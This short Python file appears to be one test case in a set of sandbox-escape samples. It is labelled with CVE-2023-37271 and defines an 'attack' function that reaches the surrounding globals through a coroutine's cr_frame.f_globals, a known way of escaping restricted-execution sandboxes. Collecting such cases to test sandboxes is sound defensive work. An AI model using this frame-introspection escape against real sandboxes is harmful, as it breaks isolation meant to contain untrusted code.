"""Class: frames. Source: CVE-2023-37271, cr_frame. Escape: a coroutine's frame, through its
__await__.
"""


async def inside():
    return 1


def attack(model, tokenizer, address):
    running = inside()
    found = running.cr_frame.f_globals
    running.close()
    return found
